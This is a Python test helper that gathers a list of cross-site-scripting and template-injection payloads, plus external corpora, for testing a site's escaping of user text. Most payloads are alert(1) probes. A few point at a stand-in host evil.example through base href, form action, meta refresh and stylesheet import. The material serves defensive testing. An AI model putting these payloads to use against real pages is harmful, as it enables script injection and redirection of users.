"""Texts that would do something if any page took them for more than text: our own, and the corpora's where they are."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from functools import lru_cache

from tests.machinery.corpora import CORPORA

CORPUS_FILES = ("xss_vectors.jsonl", "xss_h5sc.mpl2.jsonl", "xss_owasp.ccbysa4.jsonl")
# The first two files' rows for other places than HTML are attacks on fields: names, titles, addresses.
OWN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '</script><script>alert(1)</script>{"@type":"x"}',
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/p.png)',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](<https://a.example/'onmouseover='alert(1)'>)",
    '<https://a.example/"onmouseover=alert(1)>',
    '```"><script>alert(1)</script>\nx\n```',
    "`</code><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "> <!--\n> --><script>alert(1)</script>",
    "> &lt;img src=x onerror=alert(1)&gt;",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<rejoinder-discussion src=//evil.example/x></rejoinder-discussion>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a id=rj-act name=rj-act form=rj-act>x</a>",
    "[a]: javascript:alert(1)\n\n[a]",
    "{{7*7}}{% import 'os' %}${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__.__mro__}{site.id}{name}%s%(x)s",
    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example/x.css>",
    "\u2028alert(1)\u2029//",
    "www.a.example/<script>alert(1)</script>",
    'https://a.example/\u202e"><b>',
    "<x onclick=alert(1) tabindex=1>click</x>",
    "<details open ontoggle=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)


@lru_cache(1)
def attacks() -> tuple[str, ...]:
    """Return every attack there is, each once."""
    found = list(OWN)
    for name in CORPUS_FILES:
        path = CORPORA / "security" / name
        if path.exists():
            found += [json.loads(line)["payload"] for line in path.read_text("utf-8").splitlines()]
    return tuple(dict.fromkeys(found))


def in_lots(texts: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    """Yield the texts in their order, `size` at a time."""
    for start in range(0, len(texts), size):
        yield texts[start : start + size]


def sample(count: int) -> tuple[str, ...]:
    """Return `count` attacks, our own first and the others spread evenly over the corpora."""
    everything = attacks()
    rest = everything[len(OWN) :]
    wanted = max(0, count - len(OWN))
    step = max(1, len(rest) // wanted) if wanted else 1
    return everything[: len(OWN)] + rest[::step][:wanted]
